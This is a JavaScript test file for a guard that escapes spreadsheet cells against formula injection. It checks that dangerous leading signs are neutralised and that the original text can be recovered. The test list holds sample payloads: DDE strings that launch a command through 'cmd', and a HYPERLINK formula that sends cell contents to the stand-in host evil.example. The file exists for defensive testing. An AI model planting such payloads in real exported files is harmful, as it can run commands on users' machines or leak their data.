import {guarded, unguarded} from './formula';

/** Payloads from OWASP and from those who collect them. */
const PAYLOADS = [
  '=1+1',
  '+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  '\uFEFF=1+1',
];
const HARMLESS = ['', 'BRCA1', 'a = b', "'quoted'", "'s-Hertogenbosch", '1-2', ' x', '10.5281/zenodo', '[1]'];

describe('A cell', () => {
  for (const text of PAYLOADS) {
    it(`holds ${JSON.stringify(text)} without running it, and gives it back as it was`, () => {
      expect(guarded(text)).toMatch(/^'/);
      expect(unguarded(guarded(text))).toBe(text);
    });
  }

  it('leaves what no spreadsheet runs as it is', () => {
    for (const text of HARMLESS) {
      expect(guarded(text)).toBe(text);
      expect(unguarded(text)).toBe(text);
    }
  });

  it('gives back any text exactly', () => {
    const signs = ["'", '=', '+', '-', '@', ' ', '\t', '\r', '\n', 'a', ';', '"', '＝'];
    const texts = signs.flatMap((a) => signs.flatMap((b) => signs.flatMap((c) => [a, a + b, a + b + c])));
    for (const text of texts) {
      expect(unguarded(guarded(text)))
        .withContext(JSON.stringify(text))
        .toBe(text);
      expect(guarded(text)).not.toMatch(/^[=+\-@\t\r\n]/);
    }
  });
});
